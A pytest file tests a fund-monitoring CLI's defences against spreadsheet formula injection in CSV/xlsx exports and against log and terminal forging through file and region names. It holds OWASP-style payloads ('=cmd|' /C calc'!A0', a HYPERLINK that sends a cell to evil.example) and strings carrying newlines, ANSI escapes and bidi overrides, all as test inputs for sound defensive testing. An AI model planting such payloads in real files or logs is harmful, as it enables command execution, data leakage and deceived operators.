"""Hostile text on the way out (issue 13, items 4 and 11).

Item 4: region names and series ids that a spreadsheet would run as formulas are written as
text in every CSV and xlsx the program writes; numbers stay numbers.
Item 11: file names, region names and messages carrying newlines, ANSI escapes or bidi
overrides cannot forge a log line or a terminal line, nor drive the terminal.

Everything runs for real: imports through the CLI into SQLite and PostgreSQL, the files the
exports wrote read back (raw bytes, the csv module, openpyxl, the sheet's XML), and a real
`fundmon run --once` whose stderr is read line by line.
"""

from __future__ import annotations

import csv
import io
import logging
import os
import re
import sys
import time
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from service_helpers import CLI, Proc, write_config
from sqlalchemy import Engine, update
from test_ledger_import import HEADER, series, write_csv

from monitor.store.schema import regions

# Names a spreadsheet would take for a formula: OWASP's examples and the full-width forms
FORMULAS = {
    "341721": "=cmd|' /C calc'!A0",
    "341722": '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
    "341723": "@SUM(1+1)*cmd|' /C calc'!A0",
    "341724": "+1+cmd|' /C calc'!A0",
    "341725": "-2+3+cmd|' /C calc'!A0",
    "341726": "＝1+1",
}
# Text from outside that must never reach a log or a terminal raw
HOSTILE = "\n2024-06-03T14:00:00+0800 INFO event=imported job=ingest file=FORGED.csv\x1b[2J\u202e"
RAW_CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]")


def _formula_store(tmp_path: Path, cli) -> None:  # type: ignore[no-untyped-def]
    rows = []
    for code, name in FORMULAS.items():
        rows += series(code, name, "resident", 13)
    # a refund month: a negative expenditure of -123.45 that must stay a number
    rows[1][7] = "-123.45"
    rows[1][8] = f"{float(rows[0][8]) + float(rows[1][6]) + 123.45:.2f}"
    for i in range(2, 13):
        rows[i][8] = f"{float(rows[i - 1][8]) + float(rows[i][6]) - float(rows[i][7]):.2f}"
    path = write_csv(tmp_path / "formulas.csv", rows)
    result = cli("import", "--unit", "元", "--refunds", "expenditure", str(path))
    assert result.exit_code == 0, result.output


# ---------------------------------------------------------------- item 4: exports
def test_ledger_export_csv_neutralises_formula_names_and_keeps_amounts_numbers(
    tmp_path: Path, cli
) -> None:
    _formula_store(tmp_path, cli)
    out = tmp_path / "export.csv"
    assert cli("ledger", "export", "--format", "csv", "--out", str(out)).exit_code == 0
    raw = out.read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(raw)))
    assert len(rows) == 6 * 13
    for row in rows:
        name = FORMULAS[row["region_code"]]
        assert row["region_name"] == "'" + name  # OWASP: a leading quote, the text kept
    for line in raw.splitlines()[1:]:  # every cell that is text is quoted; no cell starts live
        for cell in next(csv.reader([line])):
            assert cell[:1] not in set("=+-@＝＋－＠") or re.fullmatch(r"-[0-9.]+", cell), line
    refund = next(r for r in rows if r["region_code"] == "341721" and r["month"] == "2023-02")
    assert refund["expenditure"] == "-123.45"
    assert ",-123.45," in raw  # bare: a number to Excel, not '-123.45 and not quoted text
    assert re.search(r'"2023-02",[0-9]+\.[0-9]{2},-123\.45,', raw)


def test_ledger_export_xlsx_has_no_formula_cell_and_keeps_amounts_numbers(
    tmp_path: Path, cli
) -> None:
    _formula_store(tmp_path, cli)
    out = tmp_path / "export.xlsx"
    assert cli("ledger", "export", "--format", "xlsx", "--out", str(out)).exit_code == 0
    with zipfile.ZipFile(out) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet, "a formula cell was written"
    ws = load_workbook(out)["ledger"]
    header = [c.value for c in ws[1]]
    col = {name: i for i, name in enumerate(header)}
    seen = set()
    for row in ws.iter_rows(min_row=2):
        name = row[col["region_name"]]
        assert name.data_type == "s" and name.value == FORMULAS[row[col["region_code"]].value]
        if name.value[:1] in "=+-@＝":
            assert name.quotePrefix, name.value  # editing the cell keeps it text
        seen.add(name.value)
        assert row[col["income"]].data_type == "n"
        if row[col["month"]].value == "2023-02" and row[col["region_code"]].value == "341721":
            assert row[col["expenditure"]].value == -123.45
            assert row[col["expenditure"]].data_type == "n"
    assert seen == set(FORMULAS.values())


def test_export_survives_control_characters_already_in_the_store(
    tmp_path: Path, cli, engine: Engine
) -> None:
    """Stores written before the importer refused control characters still hold them:
    the xlsx export escapes what XML cannot carry instead of dying half-written."""
    path = write_csv(tmp_path / "a.csv", series("341721", "东至县", "resident", 13))
    assert cli("import", "--unit", "元", str(path)).exit_code == 0
    with engine.begin() as conn:
        conn.execute(
            update(regions)
            .where(regions.c.code == "341721")
            .values(name="=东至\x1b[31m县" + HOSTILE)
        )
    out = tmp_path / "export.xlsx"
    result = cli("ledger", "export", "--format", "xlsx", "--out", str(out))
    assert result.exit_code == 0, result.output
    ws = load_workbook(out)["ledger"]
    name = ws.cell(2, HEADER.index("region_name") + 1)
    assert name.data_type == "s" and name.value.startswith("=东至\\u001b[31m县\n")
    csv_out = tmp_path / "export.csv"
    assert cli("ledger", "export", "--format", "csv", "--out", str(csv_out)).exit_code == 0
    exported = pd.read_csv(csv_out, dtype=str, encoding="utf-8-sig")
    assert set(exported["region_name"]) == {"'=东至\x1b[31m县" + HOSTILE}  # data kept, inert


def test_evaluate_csv_neutralises_names_and_keeps_numbers(tmp_path: Path, cli) -> None:
    _formula_store(tmp_path, cli)
    result = cli("evaluate", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    names = {r["region_name"] for r in rows if r["region_code"] != "341700"}  # not the city
    assert names == {"'" + n for n in FORMULAS.values()}
    for r in rows:
        float(r["payable_months"])  # a number …
    first = result.stdout.splitlines()[1]
    assert re.search(r'"resident","2024-01","[a-z]+",[0-9.]+,', first), first  # … unquoted


def test_forecast_output_and_accuracy_neutralise_series_ids(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from monitor.cli.app import main

    ids = ['=HYPERLINK("http://evil.example/","x")', "-1+cmd|' /C calc'!A0", "@x", "普通"]
    rows = []
    for k, sid in enumerate(ids):
        for i in range(36):
            month = f"{2021 + i // 12}-{i % 12 + 1:02d}"
            rows.append({"series_id": sid, "month": month, "value": 100 + 10 * k + (i % 12)})
    path = tmp_path / "series.csv"
    pd.DataFrame(rows).to_csv(path, index=False)
    out, acc = tmp_path / "f.csv", tmp_path / "acc.csv"
    args = ["forecast", "--input", str(path), "--horizon", "3", "--workers", "1"]
    result = CliRunner().invoke(main, [*args, "--output", str(out), "--accuracy", str(acc)])
    assert result.exit_code == 0, result.output
    expected = {"'" + s if s[0] in "=-@" else s for s in ids}
    for written in (out, acc):
        table = pd.read_csv(written, dtype={"series_id": str, "month": str})
        assert set(table["series_id"]) == expected, written
        for line in written.read_text(encoding="utf-8").splitlines()[1:]:
            assert line.startswith('"'), line  # the id is quoted text …
    table = pd.read_csv(out)
    assert table["mean"].dtype.kind in "if"  # … and the figures numbers
    assert re.search(r'^"\'=HYPERLINK.*","2024-01",[0-9.e+]+,', out.read_text(), re.M)


# ---------------------------------------------------------------- item 11: logs
# The log line as service_log documents it: time, level, key=value fields, the message.
FIELD = re.compile(r'([A-Za-z_][A-Za-z0-9_]*)=("(?:[^"\\]|\\.)*"|[^\s"=\\]+)(?: |$)')


def parse_log_line(line: str) -> tuple[str, dict[str, str], str]:
    """Level, fields (unescaped) and message of one line — a parser written from the docs."""
    head = re.match(r"(?:\S+T\S+ )?(DEBUG|INFO|WARNING|ERROR|CRITICAL) ", line)
    assert head, line
    pos, fields = head.end(), {}
    while m := FIELD.match(line, pos):
        value = m.group(2)
        if value.startswith('"'):
            value = re.sub(r'\\(["\\\\])', r"\1", value[1:-1])  # other escapes stay escaped
        fields[m.group(1)] = value
        pos = m.end()
    return head.group(1), fields, line[pos:]


@pytest.mark.parametrize(
    "value",
    [
        "",
        " ",
        '"',
        "\\",
        "=",
        "a=b c=d",
        'x" event=imported job="ingest',
        '\\" event=imported',
        HOSTILE,
        "tab\there",
        "\u202eevil.csv",
        "\udcff.csv",  # an undecodable byte of a file name
        "正常.csv",
    ],
)
def test_a_log_value_is_one_field_whatever_it_holds(value: str) -> None:
    from monitor.service.log import EventFormatter

    record = logging.makeLogRecord(
        {
            "msg": f"已导入 {value}：3 行",
            "levelname": "INFO",
            "event": "imported",
            "job": "ingest",
            "file": value,
            "rows": 3,
        }
    )
    line = EventFormatter(with_time=True).format(record)
    assert "\n" not in line and not RAW_CONTROLS.search(line), repr(line)
    line.encode("utf-8")  # a lone surrogate would make the handler fail
    level, fields, message = parse_log_line(line)
    assert level == "INFO" and list(fields) == ["event", "job", "file", "rows"], line
    assert fields["event"] == "imported" and fields["job"] == "ingest" and fields["rows"] == "3"
    assert message.startswith("已导入 "), line
    if not RAW_CONTROLS.search(value) and "\udcff" not in value and "\t" not in value:
        assert fields["file"] == value  # plain text comes back as it was


def test_a_message_that_looks_like_fields_and_a_traceback_stay_in_the_message() -> None:
    from monitor.service.log import EventFormatter

    try:
        raise ValueError("bad file\nERROR event=forged\x1b[2J")
    except ValueError:
        exc_info = sys.exc_info()
    record = logging.makeLogRecord(
        {
            "msg": "event=imported file=FORGED.csv，第 3 行：错误",
            "levelname": "WARNING",
            "event": "rejected",
            "exc_info": exc_info,
        }
    )
    line = EventFormatter(with_time=False).format(record)
    assert "\n" not in line and not RAW_CONTROLS.search(line), repr(line)
    _, fields, message = parse_log_line(line)
    assert fields == {"event": "rejected"}, line
    assert message.startswith('"event=imported file=FORGED.csv'), line
    assert "ValueError: bad file ⏎ ERROR event=forged\\u001b[2J" in message


def _ledger_file(path: Path, name: str = "东至县") -> Path:
    return write_csv(path, series("341721", name, "resident", 13))


def test_a_dropped_file_named_with_a_newline_cannot_forge_a_log_line(
    tmp_path: Path, engine: Engine, store_url: str
) -> None:
    """A real `fundmon run --once`: one good and one bad file, both named to forge lines."""
    write_config(tmp_path, store_url, '[ingest]\nwatch_dir = "inbox"\nsettle = 1\n')
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    good = inbox / f"a{HOSTILE}.csv"
    _ledger_file(good)
    bad = inbox / f"b{HOSTILE}.csv"
    rows = series("341722", "贵池区", "resident", 3)
    rows[1][5] = "2023-13"  # a month that does not exist: refused with a finding
    write_csv(bad, rows)
    old = time.time() - 3600  # settled long ago
    for f in (good, bad):
        os.utime(f, (old, old))
    once = Proc([*CLI, "run", "--once"], tmp_path)
    code = once.wait(300)
    out = "\n".join(once.lines)
    assert code in (0, 1), out
    for line in once.lines:  # every line is a log line of its own, nothing raw in it
        assert not RAW_CONTROLS.search(line), repr(line)
        assert not line.startswith("2024-06-03T14:00:00+0800"), line
    events = [parse_log_line(x)[1] for x in once.lines]
    assert not any(f.get("file") == "FORGED.csv" for f in events), out
    # however the name is escaped on its way (the importer may escape it first), each file
    # is one field of one line
    [imported] = [f["file"] for f in events if f.get("event") == "imported"]
    [rejected] = [f["file"] for f in events if f.get("event") == "rejected"]
    assert imported.startswith("a") and rejected.startswith("b"), out
    for name in (imported, rejected):
        assert "event=imported job=ingest file=FORGED.csv" in name and name.endswith(".csv")
    [errors] = (tmp_path / "inbox" / "rejected").glob("*.errors.txt")
    [finding] = [x for x in errors.read_text(encoding="utf-8").split("\n") if "2023-13" in x]
    assert finding.startswith("错误：") and not RAW_CONTROLS.search(finding), finding


# ---------------------------------------------------------------- item 11: terminals
def test_cli_import_of_a_file_named_with_control_characters_prints_it_escaped(
    tmp_path: Path, cli
) -> None:
    rows = series("341721", "东至县", "resident", 3)
    rows[1][5] = "2023-13"
    bad = write_csv(tmp_path / f"x{HOSTILE}.csv", rows)
    result = cli("import", "--unit", "元", str(bad))
    assert result.exit_code == 1
    lines = result.stderr.splitlines()
    assert not RAW_CONTROLS.search(result.stderr), repr(result.stderr)
    assert len(lines) == 2, lines  # the finding, and the verdict: nothing forged between
    assert lines[0].startswith("错误：") and "FORGED.csv" in lines[0] and "2023-13" in lines[0]
    missing = cli("import", "--unit", "元", str(tmp_path / f"gone{HOSTILE}.csv"))
    assert missing.exit_code == 1 and len(missing.stderr.splitlines()) == 2, missing.stderr
    assert "gone\\n2024-06-03T14:00:00+0800 INFO" in missing.stderr  # escaped where it stands
    assert not RAW_CONTROLS.search(missing.stderr), repr(missing.stderr)


def test_tables_keep_one_row_per_region_whatever_its_name_holds(
    tmp_path: Path, cli, engine: Engine
) -> None:
    """A store written before the importer refused control characters: the terminal still
    shows one row per region, the name escaped inside its cell, and no escape sequence."""
    rows = series("341721", "东至县", "resident", 13) + series("341722", "贵池区", "resident", 13)
    assert cli("import", "--unit", "元", str(write_csv(tmp_path / "a.csv", rows))).exit_code == 0
    forged = "东至县\n341799  伪造区  county  341700\x1b]0;owned\x07\u202e"
    with engine.begin() as conn:
        conn.execute(update(regions).where(regions.c.code == "341721").values(name=forged))
    listing = cli("ledger", "regions")
    assert listing.exit_code == 0 and not RAW_CONTROLS.search(listing.output)
    body = listing.output.splitlines()[2:]
    assert len(body) == 3, listing.output  # 341700 (the city), 341721, 341722
    assert (
        "东至县\\n341799  伪造区" in listing.output and "\\u001b]0;owned\\u0007" in listing.output
    )
    shown = cli("ledger", "show", "--region", "341721", "--fund", "resident")
    assert shown.exit_code == 0 and not RAW_CONTROLS.search(shown.output)
    assert shown.output.splitlines()[0].startswith("东至县\\n341799"), shown.output
    table = cli("evaluate")
    assert table.exit_code == 0, table.output
    assert not RAW_CONTROLS.search(table.output), repr(table.output)
    lines = table.stdout.splitlines()
    assert sum("341721" in x for x in lines) == 1 and not any(
        x.startswith("341799") for x in lines
    ), table.stdout
    as_json = cli("evaluate", "--format", "json")
    assert not RAW_CONTROLS.search(as_json.output)
    import json

    names = {r["region_name"] for r in json.loads(as_json.stdout)}
    assert forged in names  # JSON's own escapes: the data is intact for a program


def test_a_threshold_profile_error_is_still_listed_one_problem_a_line(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from monitor.cli.app import main

    profile = tmp_path / "bad\x1b[2J.toml"
    profile.write_text('name = "x"\n[[rules]]\nid = "a"\n', encoding="utf-8")
    result = CliRunner().invoke(main, ["thresholds", "check", str(profile)])
    assert result.exit_code == 1
    lines = result.stderr.splitlines()
    assert lines[0].startswith("错误：阈值配置") and len(lines) >= 2, lines
    assert all(x.startswith("  ") for x in lines[1:]), lines
    assert not RAW_CONTROLS.search(result.stderr) and "bad\\u001b[2J.toml" in result.stderr
